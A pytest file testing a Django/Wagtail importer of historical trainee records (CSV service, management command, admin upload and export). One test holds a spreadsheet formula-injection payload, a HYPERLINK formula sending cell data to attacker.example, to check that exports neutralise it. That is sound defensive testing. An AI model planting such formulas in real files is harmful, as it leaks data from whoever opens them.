"""The historical import: the service, the import_records command and the admin upload. The rows
are imported into the baseline's centres (the importer knows them by slug), and what a test
counts is the difference its import made."""

import csv
import datetime
import io
from pathlib import Path

import openpyxl
import pytest
from django.contrib.messages import get_messages
from django.core.management import CommandError, call_command
from django.db import connection
from django.urls import reverse
from wagtail.log_actions import registry as log_registry

from skills import services
from skills.import_views import SESSION_KEY
from skills.importer import Problem, import_records
from skills.models import Centre, Cohort, Course, Enrolment, Trainee, private_storage
from skills.tasks import UPLOAD_FOLDER as UPLOADS
from tests.factories import CohortFactory, TraineeFactory
from website.demo.users import seed_users

SAMPLE = Path(__file__).resolve().parents[2] / "docs" / "samples" / "import_sample.csv"
HEADER = (
    "centre,register_number,full_name,name_hi,date_of_birth,district,trade,course,"
    "cohort_start,cohort_end,status,enrolled_on,completion_date,dropout_reason"
)
TAILORING = "Tailoring and dress making"
PERMISSION_ERROR = "Sorry, you do not have permission to access this area."


def csv_text(*rows, header=HEADER):
    return "\r\n".join([header, *rows]) + "\r\n"


def row(
    name="Tulsi Baiga",
    register="T/2017/001",
    *,
    centre="lucknow",
    name_hi="तुलसी बैगा",
    born="1990-05-06",
    trade="tailoring",
    course=TAILORING,
    start="2017-02-06",
    end="2017-05-05",
    status="completed",
    enrolled="",
    completed="2017-05-05",
    reason="",
):
    cells = [centre, register, name, name_hi, born, "Lucknow", trade, course, start, end, status, enrolled]
    cells += [completed, reason]
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(cells)
    return out.getvalue()


def counts():
    return {model.__name__: model.objects.count() for model in (Trainee, Cohort, Course, Enrolment)}


def export_csv(client):
    response = client.get(reverse("skills_trainee:index") + "?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def users(db, django_user_model):
    """The demo accounts (idempotent: there already if the session seeded them)."""
    seed_users()
    return django_user_model.objects


@pytest.fixture
def coordinator(users):
    return users.get(username="coordinator")  # Lucknow only


@pytest.fixture
def waiting_uploads():
    """The names of the files waiting for confirmation in private storage (on disk or in the
    bucket), starting from none."""
    storage = private_storage()

    def names():
        return storage.listdir(UPLOADS)[1] if storage.exists(UPLOADS) else []

    for name in names():
        storage.delete(f"{UPLOADS}/{name}")
    return names


# The service


def test_the_sample_file_imports_cleanly(db):
    before = counts()
    result = import_records(SAMPLE.read_bytes())

    assert result.problems == []
    assert (result.rows, result.created_trainees, result.created_cohorts) == (15, 14, 7)
    assert (result.created_courses, result.created_enrolments, result.unchanged) == (1, 15, 0)
    after = counts()
    assert after["Trainee"] - before["Trainee"] == 14
    assert after["Enrolment"] - before["Enrolment"] == 15

    champa = Trainee.objects.get(centre__slug="lucknow", register_number="LKO/2016/101")
    assert champa.name_hi == "चंपा राजभर"
    assert champa.enrolments.count() == 2
    cohort = Cohort.objects.get(centre__slug="lucknow", course__title=TAILORING, start_date="2016-04-04")
    assert (cohort.status, cohort.capacity, cohort.seats_taken) == ("completed", 30, 3)  # one dropped out
    assert cohort.enrolments.get(trainee__full_name="Hemlata Pal").status == "not_passed"
    assert Course.objects.get(title="Housekeeping basics").trade.slug == "hotel-management"
    lucknow = Centre.objects.get(slug="lucknow")
    entry = log_registry.get_logs_for_instance(lucknow).get(action="sakhi.import")
    assert entry.data["created_enrolments"] == 8


def test_importing_the_same_file_twice_creates_no_duplicates(db):
    import_records(SAMPLE.read_bytes())
    before = counts()

    again = import_records(SAMPLE.read_bytes())

    assert again.problems == []
    assert (again.created_trainees, again.created_cohorts, again.created_enrolments) == (0, 0, 0)
    assert again.unchanged == 15
    assert counts() == before


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_utf8_with_or_without_a_byte_order_mark(db, encoding):
    data = csv_text(row("Tulsi Baiga", name_hi="तुलसी बैगा")).encode(encoding)
    assert data.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8-sig")

    result = import_records(io.BytesIO(data))

    assert result.problems == []
    assert Trainee.objects.get(register_number="T/2017/001").name_hi == "तुलसी बैगा"


def test_hindi_full_names_survive_and_identify_the_trainee(db):
    text = csv_text(
        row("सरोज कुशवाहा", register="", name_hi="सरोज कुशवाहा"),
        row(
            "सरोज कुशवाहा",
            register="",
            name_hi="",
            trade="tie-and-dye",
            course="Tie-and-dye",
            start="2018-01-08",
            end="2018-02-07",
            completed="2018-02-07",
        ),
    )
    result = import_records(text)

    assert result.problems == []
    assert result.created_trainees == 1
    assert Trainee.objects.get(full_name="सरोज कुशवाहा").enrolments.count() == 2


def test_a_file_that_is_not_utf8_is_one_clear_problem(db):
    data = csv_text(row(name_hi=""), row("Zoë Masih", register="T/2017/002", name_hi="")).encode("cp1252")

    result = import_records(data)

    assert len(result.problems) == 1
    assert result.problems[0].line == 3
    assert "not UTF-8" in result.problems[0].message


BAD_FILE = csv_text(
    row("Tulsi Baiga"),  # line 2: fine
    row("Roshni Bind", register="T/2017/002", born="12.03.1990"),
    row("Gauri Tharu", register="T/2017/003", born="31/02/1990"),
    row("Jyoti Rajak", register="T/2017/004", centre="lko2"),
    row("Manju Kol", register="T/2017/005", trade="knitting"),
    row("Tulsi Baiga"),  # line 7: the same enrolment as line 2
    row("", register="T/2017/006"),
    row("Heera Gond", register="T/2017/007", completed=""),
)
BAD_FILE_PROBLEMS = [
    Problem(3, "date_of_birth", '"12.03.1990" is not a date; write YYYY-MM-DD, DD/MM/YYYY or DD-MM-YYYY'),
    Problem(4, "date_of_birth", '"31/02/1990" is not a real date'),
    Problem(5, "centre", 'no centre "lko2"; known: buxar, leh, lucknow, patna-1, patna-2'),
    Problem(
        6,
        "trade",
        'no trade "knitting"; known: beauty-and-wellness, food-processing, hotel-management, jute-handiwork, '
        "retail-marketing, tailoring, tie-and-dye",
    ),
    Problem(7, "", "duplicate of line 2"),
    Problem(8, "full_name", "required, but empty"),
    Problem(9, "completion_date", "required when the status is completed"),
]


@pytest.mark.parametrize("dry_run", [True, False])
def test_a_bad_file_reports_every_problem_by_line_and_column_and_changes_nothing(db, dry_run):
    before = counts()

    result = import_records(BAD_FILE, dry_run=dry_run)

    assert result.problems == BAD_FILE_PROBLEMS
    assert counts() == before


@pytest.mark.parametrize("dry_run", [True, False])
def test_a_missing_column_is_a_problem_of_the_header(db, dry_run):
    header = HEADER.replace(",status", "")
    line = row().rsplit(",", 4)  # drop the status cell
    text = csv_text(",".join([line[0], *line[2:]]), header=header)
    before = counts()

    result = import_records(text, dry_run=dry_run)

    assert result.problems == [Problem(1, "status", "this required column is missing")]
    assert counts() == before


def test_one_bad_row_among_good_ones_writes_nothing(db):
    good = [row(f"Trainee {n}", register=f"T/2017/{n:03d}") for n in range(1, 40)]
    before = counts()

    result = import_records(csv_text(*good, row("Late Row", register="T/2017/999", completed="2099-01-01")))

    assert result.problems == [Problem(41, "completion_date", "2099-01-01 is in the future")]
    assert result.created_enrolments == 39  # what the good rows would have done
    assert counts() == before


def test_columns_are_case_insensitive_in_any_order_and_a_dry_run_changes_nothing(db):
    header = "Status,Full Name,Date_Of_Birth,CENTRE,Trade,Course,Cohort_Start,Cohort_End,Completion_Date"
    text = csv_text(
        "Completed,Sona Munda,06-05-1990,LKO,Tailoring,tailoring and dress making,"
        "06/02/2017,05/05/2017,05/05/2017",
        header=header,
    )
    before = counts()

    result = import_records(text, dry_run=True)

    assert result.problems == []
    assert (result.created_trainees, result.created_cohorts, result.created_courses) == (1, 1, 0)
    assert counts() == before


def test_register_number_of_another_woman_is_a_problem(db):
    existing = TraineeFactory(
        centre=Centre.objects.get(slug="lucknow"),
        full_name="Kamla Nishad",
        register_number="LKO/2015/777",
        date_of_birth=datetime.date(1988, 7, 9),
    )

    result = import_records(csv_text(row("Someone Else", register=existing.register_number)))

    (problem,) = result.problems
    assert problem.column == "register_number"
    assert f"trainee #{existing.pk} in the tracker" in problem.message
    # Her name and date of birth stay out of a message the command prints to a terminal.
    assert existing.full_name not in problem.message
    assert str(existing.date_of_birth) not in problem.message


def completed_lucknow_cohort(capacity, completions):
    """A tailoring cohort of Lucknow that ended in 2019 with `completions` women and one dropout,
    on dates of no other cohort (the demo's start on the 5th of a month)."""
    start, end = datetime.date(2019, 3, 11), datetime.date(2019, 6, 8)
    cohort = CohortFactory(
        course=Course.objects.get(trade__slug="tailoring", title=TAILORING),
        centre=Centre.objects.get(slug="lucknow"),
        start_date=start,
        end_date=end,
        capacity=capacity,
    )
    trainees = TraineeFactory.create_batch(completions + 1, centre=cohort.centre)
    *done, leaver = services.enrol(trainees, cohort, on=start)
    services.drop_out(leaver, "Married", on=start + datetime.timedelta(days=10))
    for enrolment in done:
        services.complete(enrolment, passed=True, on=end)
    Cohort.objects.filter(pk=cohort.pk).update(status=Cohort.Status.COMPLETED)
    cohort.refresh_from_db()
    return cohort


def test_seats_are_counted_again_and_a_full_cohort_is_a_problem(db):
    cohort = completed_lucknow_cohort(capacity=8, completions=3)
    first, last = cohort.start_date, cohort.end_date
    dates = {
        "course": cohort.course.title,
        "trade": cohort.course.trade.slug,
        "start": f"{first}",
        "end": f"{last}",
        "completed": f"{last}",
    }
    taken = cohort.seats_taken
    assert taken == 3  # the dropout freed her seat

    result = import_records(csv_text(row("Sita Oraon", **dates)))
    assert result.problems == []
    assert result.created_cohorts == 0
    cohort.refresh_from_db()
    assert cohort.seats_taken == taken + 1 == cohort.enrolments.holding_seats().count()

    free = cohort.capacity - cohort.seats_taken
    rows = [row(f"Extra {n}", register=f"X/{n}", **dates) for n in range(free + 1)]
    result = import_records(csv_text(*rows))
    (problem,) = result.problems
    assert problem.line == free + 2
    assert f"has {cohort.capacity} seats" in problem.message


def test_a_new_cohort_gets_a_seat_for_everyone(db):
    rows = [row(f"Trainee {n}", register=f"T/2017/{n:03d}") for n in range(35)]
    rows.append(row("Leaver", register="T/2017/900", status="dropped", completed="", reason="Married"))

    assert import_records(csv_text(*rows)).problems == []

    cohort = Cohort.objects.get(centre__slug="lucknow", start_date="2017-02-06", course__title=TAILORING)
    assert (cohort.capacity, cohort.seats_taken, cohort.enrolments.count()) == (35, 35, 36)


def test_a_girl_under_18_needs_a_guardian_consent_basis(db):
    born = datetime.date.today().replace(year=datetime.date.today().year - 16, month=1, day=1)
    text = csv_text(
        row("Chhoti Nat", born=f"{born}", start="2025-01-06", end="2025-04-04", completed="2025-04-04")
    )

    (problem,) = import_records(text).problems
    assert problem.column == "date_of_birth"
    assert "under 18" in problem.message


def test_a_coordinator_cannot_import_another_centres_records(db, coordinator):
    text = csv_text(row(), row("Neelam Sahni", register="P/1", centre="patna-1"))

    result = import_records(text, user=coordinator, dry_run=True)

    assert result.problems == [Problem(3, "centre", 'you cannot import records for "patna-1"')]


# The command


def test_the_command_imports_a_file_and_says_so(db, tmp_path):
    path = tmp_path / "records.csv"
    path.write_bytes(SAMPLE.read_bytes())
    out = io.StringIO()

    call_command("import_records", str(path), stdout=out)

    assert "15 rows: 14 trainees, 7 cohorts, 1 course and 15 enrolments created; 0 already" in out.getvalue()
    assert Trainee.objects.filter(register_number="LKO/2016/101").exists()


def test_the_command_dry_run_changes_nothing(db, tmp_path):
    path = tmp_path / "records.csv"
    path.write_bytes(SAMPLE.read_bytes())
    out = io.StringIO()
    before = counts()

    call_command("import_records", str(path), "--dry-run", stdout=out)

    assert "15 enrolments would be created" in out.getvalue()
    assert "Dry run: nothing was changed." in out.getvalue()
    assert counts() == before


@pytest.mark.parametrize("dry_run", [True, False])
def test_the_command_lists_problems_and_fails(db, tmp_path, dry_run):
    path = tmp_path / "records.csv"
    path.write_text(BAD_FILE, encoding="utf-8")
    err = io.StringIO()
    before = counts()

    with pytest.raises(CommandError, match="7 problems"):
        call_command(
            "import_records", str(path), *(["--dry-run"] if dry_run else []), stderr=err, stdout=io.StringIO()
        )

    assert 'line 4, date_of_birth: "31/02/1990" is not a real date' in err.getvalue()
    assert "line 7: duplicate of line 2" in err.getvalue()
    assert counts() == before


def test_the_command_shows_progress_for_large_files(db, tmp_path):
    path = tmp_path / "records.csv"
    path.write_text(
        csv_text(*(row(f"Trainee {n}", register=f"B/{n}") for n in range(1200))), encoding="utf-8"
    )
    err = io.StringIO()

    call_command("import_records", str(path), stderr=err, stdout=io.StringIO())

    assert "checking [##############################] 1,200/1,200" in err.getvalue()
    assert "writing  [##############################] 2,400/2,400" in err.getvalue()


def test_the_command_refuses_a_missing_file(db, tmp_path):
    with pytest.raises(CommandError, match="Cannot read"):
        call_command("import_records", str(tmp_path / "nowhere.csv"))


# The admin


def test_upload_preview_confirm_as_a_coordinator(client, coordinator, waiting_uploads):
    client.force_login(coordinator)
    url = reverse("skills_import")
    assert client.get(url).status_code == 200
    text = csv_text(
        row("Tulsi Baiga"), row("Roshni Bind", register="T/2017/002", status="not passed", completed="")
    )
    upload = io.BytesIO(text.encode("utf-8-sig"))
    upload.name = "lucknow-2017.csv"

    preview = client.post(url, {"file": upload})

    assert preview.status_code == 200
    html = preview.content.decode()
    assert "Confirm and import" in html
    assert f'action="{reverse("skills_import_confirm")}"' in html
    assert not Trainee.objects.filter(register_number="T/2017/001").exists()
    assert waiting_uploads() == [client.session[SESSION_KEY]["token"] + ".csv"]

    done = client.post(reverse("skills_import_confirm"))

    assert done.status_code == 302
    assert done.url == reverse("skills_trainee:index")
    assert Trainee.objects.get(register_number="T/2017/002").enrolments.get().status == "not_passed"
    assert waiting_uploads() == []
    assert SESSION_KEY not in client.session
    assert client.post(reverse("skills_import_confirm")).status_code == 302  # nothing left to confirm


def test_preview_lists_the_problems_and_offers_no_confirmation(client, coordinator, waiting_uploads):
    client.force_login(coordinator)
    upload = io.BytesIO(csv_text(row(), row("Neelam Sahni", register="P/1", centre="patna-1")).encode())
    upload.name = "mixed.csv"

    preview = client.post(reverse("skills_import"), {"file": upload})

    html = preview.content.decode()
    assert "you cannot import records for &quot;patna-1&quot;" in html
    assert "Confirm and import" not in html
    assert waiting_uploads() == []
    assert client.post(reverse("skills_import_confirm")).status_code == 302
    assert not Trainee.objects.filter(register_number="T/2017/001").exists()


@pytest.mark.parametrize("username", ["officer", "editor"])
def test_state_officers_and_editors_may_not_import(client, users, username, waiting_uploads):
    # Wagtail turns the view's PermissionDenied into its usual denial (see test_permissions.py).
    client.force_login(users.get(username=username))
    upload = io.BytesIO(csv_text(row()).encode())
    upload.name = "records.csv"

    for response in (
        client.get(reverse("skills_import")),
        client.post(reverse("skills_import"), {"file": upload}),
        client.post(reverse("skills_import_confirm")),
    ):
        assert (response.status_code, response.url) == (302, reverse("wagtailadmin_home"))
        assert PERMISSION_ERROR in {str(m).strip() for m in get_messages(response.wsgi_request)}
    assert waiting_uploads() == []
    assert not Trainee.objects.filter(register_number="T/2017/001").exists()
    assert reverse("skills_import") not in client.get(reverse("wagtailadmin_home")).content.decode()


def test_the_menu_offers_the_import_to_coordinators(client, coordinator):
    client.force_login(coordinator)
    assert reverse("skills_import") in client.get(reverse("wagtailadmin_home")).content.decode()


def test_formula_cells_are_stored_as_given_and_exported_as_text(client, coordinator):
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    text = csv_text(row(formula, register="F/1", name_hi="@SUM(1+1)"))
    assert import_records(text).problems == []
    trainee = Trainee.objects.get(register_number="F/1")
    assert (trainee.full_name, trainee.name_hi) == (formula, "@SUM(1+1)")

    client.force_login(coordinator)
    (exported,) = [line for line in export_csv(client) if line["Register number"] == "F/1"]

    assert exported["Full name"] == "'" + formula
    assert exported["Name in Hindi"] == "'@SUM(1+1)"

    response = client.get(reverse("skills_trainee:index") + "?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    (cell,) = [line[2] for line in sheet.iter_rows(min_row=2) if line[1].value == "F/1"]
    # Text, not a formula: the one writer (core/exports.py) quotes it the same way in both formats.
    assert (cell.value, cell.data_type) == ("'" + formula, "s")


@pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="SQLite stores a text of any length; CI runs this on PostgreSQL 15",
)
def test_a_value_the_database_refuses_is_named_by_kind_and_line_and_not_quoted(db, tmp_path, monkeypatch):
    """Were a check to let a value through that the column cannot hold, PostgreSQL's refusal quotes
    it ("COPY skills_enrolment, line 2, column dropout_reason: …"); the command says only what kind
    of refusal it was and on which line of the file."""
    from skills.importer import cells

    monkeypatch.setitem(cells.MAX_LENGTHS, "dropout_reason", 10_000)  # the check that would stop it
    reason = "She moved to her sister's village near the river " * 10
    path = tmp_path / "records.csv"
    path.write_text(
        csv_text(row(), row("Rani Devi", "T/2017/002", status="dropped", completed="", reason=reason)),
        encoding="utf-8",
    )
    err = io.StringIO()
    before = counts()

    with pytest.raises(CommandError, match="1 problem"):
        call_command("import_records", str(path), stderr=err, stdout=io.StringIO())

    assert (
        "line 3: The database refused the import (a value is too long), so nothing was changed."
        in err.getvalue()
    )
    assert "river" not in err.getvalue() and "dropout_reason" not in err.getvalue()
    assert counts() == before
